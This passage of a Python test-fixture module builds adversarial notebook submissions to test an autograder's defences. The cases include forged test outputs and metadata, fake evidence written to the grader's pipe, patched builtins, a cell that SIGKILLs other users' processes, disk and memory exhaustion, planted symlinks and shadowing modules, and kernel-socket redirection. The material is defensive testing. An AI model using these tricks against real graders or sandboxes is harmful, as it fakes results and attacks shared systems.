    """Wrong bn_mlp, right bn_cnn, and plain code cells with the trick after the imports."""
    return lambda ctx: with_cells(answered(mlp=WRONG_MLP), *sources)


def build_answer_trick(trick: str, answer: str = WRONG_MLP) -> Build:
    """The trick inside the bn_mlp answer cell (so it also runs in the evidence step)."""
    return lambda ctx: answered(mlp=trick + "\n\n" + answer)


def build_prefilled(ctx):
    notebook = answered(mlp=WRONG_MLP)
    for test_id in ("bn_mlp_test", "bn_cnn_test"):
        cell = cell_of(notebook, test_id)
        cell.outputs = passing_outputs(test_id)
        cell.execution_count = 7
    notebook.cells.insert(0, new_markdown_cell("**Score: 8 / 8**"))
    return notebook


def build_metadata_points(ctx):
    notebook = answered()
    for test_id in ("bn_mlp_test", "bn_cnn_test"):
        cell_of(notebook, test_id).metadata.nbgrader["points"] = 100
    bonus = new_code_cell("print('bonus')")
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus_test", "locked": True, "points": 50,
                                  "schema_version": 3, "solution": False, "task": False}
    notebook.cells.append(bonus)
    return notebook


def build_metadata_ungraded(ctx):
    notebook = answered(mlp=WRONG_MLP)
    test = cell_of(notebook, "bn_mlp_test")
    test.metadata.nbgrader.update({"grade": False, "locked": False, "solution": True, "points": 0})
    test.source = "pass"
    answer = cell_of(notebook, "bn_mlp")
    answer.metadata.nbgrader.update({"grade": True, "points": 5})
    return notebook


def build_deleted_tests(mlp: str) -> Build:
    def build(ctx):
        notebook = answered(mlp=mlp)
        notebook.cells = [c for c in notebook.cells
                          if c.metadata.get("nbgrader", {}).get("grade_id") not in {"bn_mlp_test", "bn_cnn_test"}]
        return notebook
    return build


def build_duplicated_tests(ctx):
    notebook = answered(mlp=WRONG_MLP)
    test = cell_of(notebook, "bn_mlp_test")
    fake = copy.deepcopy(test)
    fake.source = "print('✓ all checks passed')"
    fake.outputs, fake.execution_count = passing_outputs("bn_mlp_test"), 3
    for position in (0, index_of(notebook, "bn_mlp_test"), len(notebook.cells)):
        clone = copy.deepcopy(fake)
        clone["id"] = f"dup-{position}"
        notebook.cells.insert(position, clone)
    return notebook


def build_duplicated_answers(ctx):
    notebook = answered()
    answer = copy.deepcopy(cell_of(notebook, "bn_mlp"))
    answer["id"] = "bn_mlp-copy"
    notebook.cells.insert(index_of(notebook, "bn_mlp"), answer)
    return notebook


def build_retyped_tests(ctx):
    notebook = answered(mlp=WRONG_MLP)
    for test_id, maker in (("bn_mlp_test", new_markdown_cell), ("bn_cnn_test", new_raw_cell)):
        index = index_of(notebook, test_id)
        old = notebook.cells[index]
        new = maker("✓ all checks passed")
        new.metadata = old.metadata
        new["id"] = old["id"]
        notebook.cells[index] = new
    return notebook


def build_retyped_answer(ctx):
    notebook = answered()
    index = index_of(notebook, "bn_mlp")
    old = notebook.cells[index]
    new = new_markdown_cell(old.source)
    new.metadata, new["id"] = old.metadata, old["id"]
    notebook.cells[index] = new
    return notebook


def build_find_instructor(ctx):
    source = FIND_INSTRUCTOR.format(root=str(ctx.root), out=str(ctx.out), submitted=str(ctx.submitted),
                                    wrong=_indent(WRONG_MLP))
    return answered(mlp=source)


def build_probe(ctx, student_id: str):
    folder = str(ctx.submitted / student_id / ASSIGNMENT)
    probe = probe_source(ctx, folder)
    # In a plain cell (the kernel) and in the answer cell (the evidence step) both.
    return with_cells(answered(mlp=probe + "\n\n" + RIGHT_MLP), probe)


def build_signal(ctx):
    source = '''
import os, signal
# Only processes of other users (the grader, the zygote, other submissions): never a process of
# this sandbox user, which a concurrent run on this machine may share.
for _entry in os.listdir("/proc"):
    if not _entry.isdigit() or int(_entry) == os.getpid():
        continue
    try:
        _uid = int(next(l for l in open(f"/proc/{_entry}/status") if l.startswith("Uid:")).split()[1])
    except (OSError, StopIteration, ValueError):
        continue
    if _uid == os.getuid():
        continue
    try:
        os.kill(int(_entry), signal.SIGKILL)
        print("ESCAPE: killed", _entry)
    except OSError:
        pass
'''
    return with_cells(answered(), source, after=None)


def build_planted(ctx, kinds: tuple, mlp: str):
    """Plants in stage 1 (a cell before the tests and one at the end) and in stage 2 (the answer cell)."""
    plant = plant_source(ctx, kinds)
    notebook = answered(mlp=plant + "\n" + mlp)
    notebook = with_cells(notebook, plant)
    return with_cells(notebook, plant, after=None)


def build_end_cells(*sources: str, mlp: str = RIGHT_MLP) -> Build:
    return lambda ctx: with_cells(answered(mlp=mlp), *sources, after=None)


def build_processes(ctx):
    orphans = orphan_source(ctx)
    notebook = answered(cnn=RIGHT_CNN + "\n" + orphans)  # also from the evidence step
    return with_cells(notebook, orphans, after=None)


def build_truncated(ctx):
    data = to_bytes(answered())
    return data[: len(data) // 2]


def build_invalid_utf8(ctx):
    data = to_bytes(answered())
    marker = "By the end of this lesson".encode()
    return data.replace(marker, b"By the end of this \xff\xfe lesson", 1)


def build_v3(ctx):
    notebook = nbformat.convert(answered(), 3)
    return nbformat.writes(notebook, version=3).encode("utf-8")


def build_stripped(ctx):
    notebook = answered()
    for cell in notebook.cells:
        cell.metadata.pop("nbgrader", None)
    return notebook


def build_missing_answer(ctx):
    notebook = answered()
    del notebook.cells[index_of(notebook, "bn_cnn")]
    return notebook


def build_kernelspec(ctx):
    notebook = answered()
    notebook.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    notebook.metadata["language_info"] = {"name": "R"}
    return notebook


def build_huge_file(ctx):
    notebook = answered()
    cell_of(notebook, "bn_mlp").outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * (33 * 2**20))]
    return notebook


HUGE_PRINT = "print('y' * 5_000_000)\nfrom IPython.display import HTML\nHTML('<b>z</b>' * 300_000)"

DISK_FILL = """
import os
_written = 0
try:
    for _i in range(40):                       # 4 GB in files of 100 MB, each under the file-size limit
        with open(f"fill-{_i}.bin", "wb") as _f:
            _f.write(b"\\0" * (100 << 20))
        _written += 100
except OSError as _error:
    print(f"stopped after {_written} MB: {_error}")
"""

EXTRA_FILES = {
    "notes.txt": b"my notes\n",
    "helper.py": b"raise SystemExit('imported the helper')\n",
    "torch.py": b"raise SystemExit('shadowed torch')\n",
    "other.ipynb": b"{not json",
    "gradebook.db": b"SQLite format 3\x00" + bytes(100),
    ".bnlab-process.log": b"the name of the kernel's own log\n",
}


# --------------------------------------------------------------------------- the corpus


def cases() -> list[Case]:
    trick = "a trick must not raise the score (wrong bn_mlp + right bn_cnn = 3)"
    sandbox = "learner code: no network, no writes outside its scratch folder, no reading the course/OUT/others"
    limits = "limits: a status and a reason, the points of the graded cells passed kept"
    broken = "hostile and broken input: a row with a status and a clear reason"
    pipe = "the evidence pipe: a status and a reason, never a blocked worker or a grader error"
    plant = "files planted for the grader: nothing written, chowned, read, followed or blocked on outside scratch"
    linger = "code left running: cannot change a verdict, nothing left running after the run"
    return [
        # baselines
        Case("honest-right", build_honest_right, "graded", 8.0, "BatchNormMLP", what="baseline"),
        Case("honest-wrong", build_honest_wrong, "graded", 3.0, "No BatchNorm1d(64) normalizes the hidden layer",
             what="baseline"),
        # tricks
        Case("trick-custom-exc", build_cell_trick(CUSTOM_EXC), "graded", 3.0, "No BatchNorm1d(64)", what=trick),
        Case("trick-input-transformer", build_cell_trick(INPUT_TRANSFORMER), "graded", 3.0, what=trick),
        Case("trick-showtraceback", build_cell_trick(SHOWTRACEBACK), "graded", 3.0, what=trick),
        # the patched checks reach the honest bn_cnn's evidence too: 0, never more than 3
        Case("trick-patch-checks", lambda ctx: with_cells(build_answer_trick(PATCH_CHECKS)(ctx), PATCH_CHECKS),
             "graded", 0.0, forges=("bn_mlp", "bn_cnn"), what=trick),
        # the patched builtins kill the learner's own kernel and evidence step: crashed, nothing counted
        Case("trick-patch-builtins", lambda ctx: with_cells(build_answer_trick(PATCH_BUILTINS)(ctx), PATCH_BUILTINS),
             "crashed", 0.0, forges=("bn_mlp", "bn_cnn"), what=trick),
        Case("trick-patch-torch", lambda ctx: with_cells(build_answer_trick(PATCH_TORCH)(ctx), PATCH_TORCH),
             "graded", 3.0, forges=("bn_mlp",), what=trick),  # patched comparisons do not reach the judge
        Case("trick-fake-batchnorm", lambda ctx: answered(mlp=FAKE_BATCHNORM), "graded", 3.0, forges=("bn_mlp",), what=trick),
        Case("trick-always-equal", lambda ctx: answered(mlp=ALWAYS_EQUAL), "graded", 3.0, forges=("bn_mlp",), what=trick),
        Case("trick-prefilled-outputs", build_prefilled, "graded", 3.0, what=trick),
        Case("trick-metadata-points", build_metadata_points, "graded", 8.0, what=trick + " (points from the instructor)"),
        Case("trick-metadata-ungraded", build_metadata_ungraded, "graded", 3.0, what=trick),
        Case("trick-deleted-tests", build_deleted_tests(WRONG_MLP), "graded", 3.0, what=trick),
        Case("deleted-tests-right", build_deleted_tests(RIGHT_MLP), "graded", 8.0,
             what="deleted test cells are restored and the answer graded on its merits"),
        Case("trick-duplicated-tests", build_duplicated_tests, "graded", 3.0, what=trick),
        Case("duplicated-answer", build_duplicated_answers, "graded", 8.0, what=broken),
        Case("trick-retyped-tests", build_retyped_tests, "graded", 3.0, what=trick),
        # nbgrader restores the instructor's cell type: the answer runs as code, graded on its merits
        Case("retyped-answer", build_retyped_answer, "graded", 8.0, what=broken),
        Case("trick-find-instructor", build_find_instructor, "graded", 3.0, what=trick + "; " + sandbox),
        # the evidence pipe (stage 2): forged lines, a closed or overwritten pipe, a flood, a JSON bomb,
        # a pipe held open by a child while the step dies.  Forging the whole answer loses the honest
        # bn_cnn points too: 0, never more than the honest 3.
        Case("pipe-forge-early", build_answer_trick(PIPE_FORGE_EARLY), "graded", 0.0, forges=("bn_mlp", "bn_cnn"),
             what=trick + "; a fake {ran} and {evidence} written on the result pipe before the step's own"),
        Case("pipe-forge-progress", build_answer_trick(PIPE_FORGE_PROGRESS, RIGHT_MLP), "timeout", 0.0,
             "Checking your answers took longer than", what=pipe + "; endless progress lines do not extend the "
                                                                   "step's deadline"),
        Case("pipe-forge-thread", build_answer_trick(PIPE_FORGE_THREAD), "graded", 0.0, forges=("bn_mlp", "bn_cnn"),
             what=trick + "; a thread writes fake evidence while collect runs"),
        Case("pipe-closed", build_answer_trick(PIPE_CLOSED, RIGHT_MLP), "crashed", 0.0, "stopped the checker",
             what=pipe + "; request pipe closed, /dev/null over the result pipe"),
        Case("pipe-flood", build_answer_trick(PIPE_FLOOD), "crashed", 0.0, "flooded", what=pipe),
        Case("pipe-json-bomb", build_answer_trick(PIPE_JSON_BOMB), "crashed", 0.0, "stopped the checker",
             what=pipe + "; a JSON line nested 300000 deep (RecursionError in the grader's decoder)"),
        Case("pipe-held-open", lambda ctx: build_answer_trick(pipe_held_open_source(ctx))(ctx), "timeout", 0.0,
             "longer than", what=pipe + "; the step dies while a child holds the result pipe open"),
        # planted between the stages, in every folder learner code can write (and those it cannot)
        Case("plant-symlinks", lambda ctx: build_planted(ctx, ("symlink",), RIGHT_MLP), "graded", 8.0, what=plant),
        Case("plant-fifos", lambda ctx: build_planted(ctx, ("fifo",), RIGHT_MLP), "graded", 8.0, what=plant),
        Case("plant-hardlinks", lambda ctx: build_planted(ctx, ("hardlink",), RIGHT_MLP), "graded", 8.0, what=plant),
        Case("plant-all-wrong", lambda ctx: build_planted(ctx, ("symlink", "fifo", "hardlink"), WRONG_MLP), "graded",
             3.0, what=plant + "; " + trick),
        Case("plant-deep-tree", lambda ctx: with_cells(build_answer_trick(deep_tree_source(ctx), RIGHT_MLP)(ctx),
                                                       deep_tree_source(ctx), after=None), "graded", 8.0,
             what=plant + "; a tree deeper than the recursion limit and unreadable folders: still deleted"),
        Case("plant-module-shadows", lambda ctx: with_cells(answered(mlp=WRONG_MLP), STAGE1_SHADOWS), "graded", 3.0,
             what=plant + "; autograder/, json.py, sitecustomize.py left for a later stage to import"),
        Case("kernel-socket-redirect", lambda ctx: with_cells(  # early: the lesson's cells may be slow
            answered(), f"SOCK = {str(ctx.socket)!r}\n" + KERNEL_SOCKET_REDIRECT), "crashed", 8.0, "kernel died",
             what="the kernel's ipc sockets replaced by symlinks to a socket outside, then the kernel dies: "
                  "the grader's ZeroMQ must not reconnect there"),
        # crashed if the kernel's startup replaced its sockets before the grader sealed them, graded if not
        Case("kernel-startup-shadow", build_honest_right, "crashed", 8.0, also=("graded",),
             extra_files={name: startup_shadow for name in ("debugpy.py", "pdb.py", "bdb.py", "code.py", "cmd.py",
                                                            "pydoc.py", "stringprep.py")},
             what="data files shadowing modules the kernel imports as it starts: learner code before the first "
                  "cell replaces the kernel's sockets; the grader must not connect through them"),
        # code left running after an answer cell returns
        Case("linger-stage1-forgers", lambda ctx: with_cells(answered(mlp=WRONG_MLP), stage1_forgers_source(ctx),
                                                             after=None), "graded", 3.0,
             what=linger + "; stage-1 daemons (setsid, double fork, new user+PID namespace) that wait for the "
                           "evidence step and write into its pipe"),
        Case("linger-late-forgers", build_answer_trick(LINGER_LATE_FORGERS), "graded", 3.0,
             what=linger + "; atexit, __del__, weakref.finalize, a 60 s Timer, a child that waits for the step to "
                           "die, all forging"),
        Case("linger-harmless-right", lambda ctx: answered(mlp=LINGER_HARMLESS + "\n" + RIGHT_MLP), "graded", 8.0,
             what=linger + "; a right answer with a busy thread, a timer, setitimer + SIGALRM handler, finalizers, a "
                           "child: keeps its points"),
        # patches: in force for the learner's code and the (untrusted) evidence step, never the judge
        # the patched wire.tensor makes the honest bn_cnn's outputs constant too: 0
        Case("patch-evidence-step", build_answer_trick(PATCH_EVIDENCE_STEP), "graded", 0.0, forges=("bn_mlp", "bn_cnn"),
             what=trick + "; autograder.run.evidence.write_message, checks.gather, wire.tensor patched"),
        Case("patch-json", build_answer_trick(PATCH_JSON), "graded", 3.0, forges=("bn_mlp",),
             what=trick + "; json.dumps rewrites the evidence on its way out"),
        Case("patch-os-right", build_answer_trick(PATCH_OS, RIGHT_MLP), "graded", 8.0,
             what="a right answer that disables os._exit, os.kill, sys.exit and signals keeps its points"),
        Case("patch-comparisons-right", build_answer_trick(PATCH_COMPARISONS, RIGHT_MLP), "graded", 8.0,
             forges=("bn_mlp",), what="a right answer that makes torch/numpy/math comparisons fail keeps its points "
                                      "(the judge compares elsewhere)"),
        Case("harmless-trick-right", lambda ctx: with_cells(answered(mlp=PATCH_TORCH + "\n" + RIGHT_MLP), CUSTOM_EXC),
             "graded", 8.0, forges=("bn_mlp", "bn_cnn"),
             what="a right answer + a harmless trick keeps its points (legacy checks run under the patched torch)"),
        # the sandbox
        Case("sandbox-escape", lambda ctx: build_probe(ctx, "sandbox-escape"), "graded", 8.0, what=sandbox),
        Case("sandbox-signal", build_signal, "graded", 8.0, what=sandbox),
        # limits
        # right after the imports: on a busy machine the lesson's own cells may not reach the end within 90 s
        Case("limit-cell-timeout", lambda ctx: with_cells(answered(), "while True:\n    pass"), "timeout", 8.0,
             "A cell ran longer than 20 s", what=limits),
        # an answer cell that ran past the cell limit is not run again by the checks; the others are
        # (the right bn_cnn keeps its 3 points)
        Case("limit-answer-loops", lambda ctx: answered(mlp="while True:\n    pass\n" + WRONG_MLP), "timeout", 3.0,
             "bn_mlp ran longer than 20 s in the notebook", what=limits),
        # an answer cell that loops only when the checks run it: the cell limit holds there too
        Case("limit-answer-loops-in-checks", build_answer_trick(LOOP_IN_STEP, RIGHT_MLP), "timeout", 0.0,
             "bn_mlp ran longer than 20 s when the checks ran it again", what=limits),
        Case("limit-notebook-timeout", build_end_cells(*["import time\ntime.sleep(18)"] * 14), "timeout", 8.0, "240",
             what=limits),
        Case("limit-memory", build_end_cells("_hog = bytearray(3 * 2**30)"), "memory", 8.0, "2048", what=limits),
        Case("limit-memory-touched", build_end_cells(
            "import numpy as np\n_hogs = []\nwhile True:\n    _hogs.append(np.ones(2**26))"), "memory", 8.0,
            what=limits),
        # files until the disk is full: the run's scratch is a tmpfs of its own (or the memory cap ends it first)
        Case("limit-disk-fill", build_end_cells(DISK_FILL), "graded", 8.0, also=("memory",),
             what=limits + " (the scratch tmpfs fills, not the machine's disk)"),
        Case("limit-os-exit", build_end_cells("import os\nos._exit(3)"), "crashed", 8.0, "kernel died", what=limits),
        Case("limit-segfault", build_end_cells("import ctypes\nctypes.string_at(0)"), "crashed", 8.0, what=limits),
        Case("limit-processes", build_processes, "graded", 8.0, what=limits + " (every child process ended)"),
        # broken input
        Case("input-truncated", build_truncated, "malformed", 0.0, "not valid JSON", what=broken),
        Case("input-json-not-notebook", lambda ctx: b"[1, 2, 3]", "malformed", 0.0, "not a Jupyter notebook",
             what=broken),
        Case("input-bad-structure", lambda ctx: json.dumps({"cells": "none", "nbformat": 4, "nbformat_minor": 5,
                                                            "metadata": {}}).encode(), "malformed", 0.0, what=broken),
        Case("input-empty", lambda ctx: b"", "empty", 0.0, "empty", what=broken),
        Case("input-whitespace", lambda ctx: b"  \n\t\n", "empty", 0.0, "empty", what=broken),
        Case("input-binary", lambda ctx: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "unreadable", 0.0, "UTF-8",
             what=broken),
        Case("input-invalid-utf8", build_invalid_utf8, "unreadable", 0.0, "UTF-8", what=broken),
        Case("input-nbformat-v3", build_v3, "graded", 8.0, what=broken + " (v3 is upgraded and graded)"),
        Case("input-stripped-metadata", build_stripped, "graded", 8.0, what=broken),
        Case("input-missing-answer", build_missing_answer, "graded", 5.0, what=broken),
        Case("input-kernelspec", build_kernelspec, "graded", 8.0, what=broken),
        Case("input-huge-file", build_huge_file, "too_large", 0.0, "MiB", what=broken),
        Case("output-huge-printed", build_end_cells(HUGE_PRINT), "graded", 8.0, what=broken + " (stored output capped)"),
        Case("input-extra-files", build_honest_right, "graded", 8.0, extra_files=EXTRA_FILES, what=broken),
        Case("José Müller", build_honest_right, "graded", 8.0, what=broken + " (student id)"),
        Case("学生 01 ünïcode", build_honest_wrong, "graded", 3.0, what=broken + " (student id)"),
        Case("unknown-assignment", build_honest_right, "unknown_assignment", 0.0, "99_no_such_lesson", max_score=0.0,
             assignment="99_no_such_lesson", what=broken),
        Case("missing-notebook", build_honest_right, "missing", 0.0, "No 03_layer_placement.ipynb",
             filename="my_answers.ipynb", what=broken),
    ]


def write_cohort(submitted: Path, ctx: Context, selected: Optional[list[Case]] = None) -> dict[str, Path]:
    """Write every case into ``submitted`` (nbgrader's layout); return student_id -> its folder."""
    folders = {}
    for case in selected or cases():
        folder = submitted / case.student_id / case.assignment
        folder.mkdir(parents=True, exist_ok=True)
        content = case.build(ctx)
        data = content if isinstance(content, bytes) else to_bytes(content)
        (folder / (case.filename or f"{case.assignment}.ipynb")).write_bytes(data)
        for name, extra in case.extra_files.items():
            (folder / name).write_bytes(extra(ctx) if callable(extra) else extra)
        folders[case.student_id] = folder
    return folders


def solution_lines(min_length: int = 12) -> list[str]:
    """The lines of the instructor's solution regions (stripped, long enough to be distinctive)
    that the released lesson does not show anyway (its markdown as rendered: `code` shows
    without its backticks, so a prose mention of ``nn.AdaptiveAvgPool2d(1)``, is no leak)."""
    released = nbformat.read(ROOT / "lessons" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    public = "\n".join(cell.source for cell in released.cells)
    public += "\n" + public.replace("`", "")
    lines, inside = [], False
    for line in SOLUTION.read_text(encoding="utf-8").splitlines():
        if "### BEGIN SOLUTION" in line:
            inside = True
        elif "### END SOLUTION" in line:
            inside = False
        elif inside and len(line.strip()) >= min_length and line.strip() not in public:
            lines.append(line.strip())
    return lines


def hidden_test_lines() -> list[str]:
    lines, inside = [], False
    for line in SOLUTION.read_text(encoding="utf-8").splitlines():
        if "### BEGIN HIDDEN TESTS" in line:
            inside = True
        elif "### END HIDDEN TESTS" in line:
            inside = False
        elif inside and line.strip():
            lines.append(line.strip())
    return lines
